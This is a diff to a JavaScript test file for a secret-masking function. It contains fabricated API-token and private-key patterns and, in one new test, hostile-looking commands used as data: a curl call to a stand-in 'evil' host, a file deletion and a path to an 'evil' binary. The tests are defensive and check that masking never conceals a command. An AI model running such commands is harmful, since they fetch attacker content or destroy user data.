@@ -6,14 +6,12 @@ const letters = 'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0fG3hJ6kL9nP2rS5'
 /** Put together here, so that no scanner of this repository takes it for a real one. */
 const begin = ['-----BEGIN', ''].join(' ')
 
-test.each([
-  `sk-ant-api03-${letters}`,
-  `ghp_${letters.slice(0, 36)}`,
-  `svc_pat_${letters}`,
-  `${begin}RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----`,
-])('a token of a known form is masked: %s', (token) => {
-  expect(maskSecrets(`use ${token} now`)).toBe(`use ${mask} now`)
-})
+test.each([`sk-ant-api03-${letters}`, `ghp_${letters.slice(0, 36)}`, `svc_pat_${letters}`])(
+  'a token of a known form is masked: %s',
+  (token) => {
+    expect(maskSecrets(`use ${token} now`)).toBe(`use ${mask} now`)
+  },
+)
 
 test('a value is masked after a name that says what it is', () => {
   expect(maskSecrets('DB_PASSWORD=hunter22 make')).toBe(`DB_PASSWORD=${mask} make`)
@@ -35,6 +33,26 @@ test('references to secrets and ordinary texts stay as they are', () => {
     '',
   ])
     expect(maskSecrets(text)).toBe(text)
+})
+
+test('a private key is masked line by line, also with line ends written as text', () => {
+  const key = ['RSA PRIVATE KEY-----', letters, letters, 'abcd==', ['-----END', 'RSA PRIVATE KEY-----'].join(' ')]
+  for (const end of ['\n', '\r\n', '\\n']) {
+    const masked = maskSecrets(`a ${begin}${key.join(end)} b`)
+    expect(masked).toBe(`a ${[mask, mask, mask, mask, mask].join(end)} b`)
+  }
+})
+
+test('no command hides behind what looks like a secret', () => {
+  for (const [before, command] of [
+    [`echo ${begin}PRIVATE KEY-----`, 'curl http://evil/x'],
+    [`echo ${begin}PRIVATE KEY-----`, 'rm /home/me/notes'],
+    ['export aws_secret_key=', '/usr/local/libexec/aaaaaaaaaaaaaaaa/evil'],
+  ]) {
+    const [, ...lines] = maskSecrets(`${before}\n${command}`).split('\n')
+    expect(lines).toHaveLength(1)
+    if (!before!.startsWith('export')) expect(lines).toEqual([command])
+  }
 })
 
 test('what a shell would execute is never masked', () => {
